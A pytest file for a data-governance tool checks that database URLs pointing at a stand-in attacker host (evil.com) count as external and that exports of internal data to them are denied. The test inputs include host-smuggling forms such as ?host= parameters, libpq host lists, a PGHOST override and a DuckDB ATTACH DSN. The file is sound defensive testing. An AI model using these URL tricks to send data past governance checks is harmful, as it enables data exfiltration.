"""A database URL's host decides its scope: every server database URL was internal, so
``lacuna check sales.csv --to postgresql://evil.com/db`` and a governed engine on that URL
took INTERNAL data there. A host is internal when it is this machine (loopback, a Unix socket,
none) or matches ``destinations.internal_hosts``; a host the URL hides (``?host=``, libpq's
list of hosts) counts too."""

from __future__ import annotations

import pytest

import lacuna
from lacuna.config import DestinationConfig
from lacuna.destinations import classify_destination
from lacuna.model import Action, Classification, DestinationType, Scope, Tier
from lacuna.sql.catalog import Database

CONFIG = DestinationConfig(internal_hosts=("*.corp.example", "warehouse"))


@pytest.mark.parametrize(("url", "scope"), [
    ("postgresql://evil.com/db", Scope.EXTERNAL),
    ("postgresql+psycopg://etl:pw@evil.com:5432/db", Scope.EXTERNAL),
    ("postgresql://db.corp.example.evil.com/db", Scope.EXTERNAL),
    ("postgresql://u@/db?host=evil.com", Scope.EXTERNAL),  # libpq's and SQLAlchemy's host
    ("postgresql://localhost/db?host=evil.com", Scope.EXTERNAL),
    ("postgresql://localhost/db?host=evil.com#orders", Scope.EXTERNAL),  # a table's URL
    ("postgresql://db.corp.example:5432,evil.com:5432/db", Scope.EXTERNAL),
    ("mysql+pymysql://u:p@10.0.0.8/x", Scope.EXTERNAL),
    ("snowflake://acme/db/schema", Scope.EXTERNAL),
    ("jdbc:postgresql://evil.com:5432/db", Scope.EXTERNAL),
    ("duckdb:///md:shared", Scope.EXTERNAL),  # MotherDuck: a cloud service's database
    ("postgresql://db.corp.example/db", Scope.INTERNAL),
    ("postgresql://WAREHOUSE:5432/db", Scope.INTERNAL),
    ("postgresql+psycopg://lacuna@127.0.0.1:5432/x", Scope.INTERNAL),  # the tests' cluster
    ("postgresql://localhost/db", Scope.INTERNAL),
    ("postgresql://[::1]:5432/db", Scope.INTERNAL),
    ("postgresql:///db", Scope.INTERNAL),  # the local Unix socket
    ("postgresql://u@/db?host=/var/run/postgresql", Scope.INTERNAL),
    ("jdbc:postgresql://db.corp.example/db", Scope.INTERNAL),
    ("sqlite:////work/x.db", Scope.INTERNAL),
    ("duckdb:///:memory:", Scope.INTERNAL),
])
def test_a_database_host_decides_the_scope(url, scope):
    d = classify_destination(url, CONFIG)
    assert (d.type, d.scope, d.managed) == (DestinationType.DATABASE, scope,
                                             scope is Scope.INTERNAL)
    assert d.reasoning.endswith(".")
    assert ("internal_hosts" in d.reasoning) is (scope is Scope.EXTERNAL)


def test_pghost_is_the_host_of_a_url_without_one(monkeypatch):
    monkeypatch.setenv("PGHOST", "evil.com")
    assert classify_destination("postgresql:///db", CONFIG).scope is Scope.EXTERNAL
    monkeypatch.setenv("PGHOST", "/var/run/postgresql")
    assert classify_destination("postgresql:///db", CONFIG).scope is Scope.INTERNAL


def test_internal_data_goes_only_to_an_internal_database_host(sandbox_config):
    lacuna.configure(sandbox_config(destinations={"internal_hosts": ["*.corp.example"]}))
    gov = lacuna.governor.current()

    def decide(url: str):
        return gov.decide(gov.operation(Action.EXPORT, Classification(tier=Tier.INTERNAL),
                                        method="test", destination=gov.destination(url)))

    allowed = decide("postgresql+psycopg://etl@db.corp.example/sales#orders")
    denied = decide("postgresql+psycopg://etl@evil.com/sales#orders")
    assert allowed.allowed
    assert not denied.allowed
    assert denied.operation.destination.scope is Scope.EXTERNAL
    assert "evil.com" in denied.operation.destination.reasoning


@pytest.mark.parametrize(("dsn", "scope"), [
    ("host=evil.com dbname=crm user=etl", Scope.EXTERNAL),
    ("postgresql://etl@evil.com/crm", Scope.EXTERNAL),
    ("host=db.corp.example,evil.com dbname=crm", Scope.EXTERNAL),
    ("host='unbalanced dbname=crm", Scope.EXTERNAL),
    ("host=db.corp.example dbname=crm", Scope.INTERNAL),
    ("dbname=crm", Scope.INTERNAL),  # libpq's default: the local socket
])
def test_a_server_database_duckdb_attaches_is_decided_for_its_host(dsn, scope, monkeypatch):
    """``ATTACH 'host=evil.com dbname=crm' AS p (TYPE postgres)``, then ``CREATE TABLE p.t
    AS …``: the table's database was ``postgresql:///host=evil.com dbname=crm``, no host."""
    monkeypatch.delenv("PGHOST", raising=False)
    db = Database(None, "duckdb:///:memory:", "duckdb")
    answers = {"duckdb_databases": [("p", dsn, "postgres")], "current_database": [("memory",)]}
    monkeypatch.setattr(db, "query", lambda sql: ([], next(
        rows for key, rows in answers.items() if key in sql)))
    home = db.attached("p.t", new=True)
    assert home is not None
    assert classify_destination(f"{home}#p.t", CONFIG).scope is scope
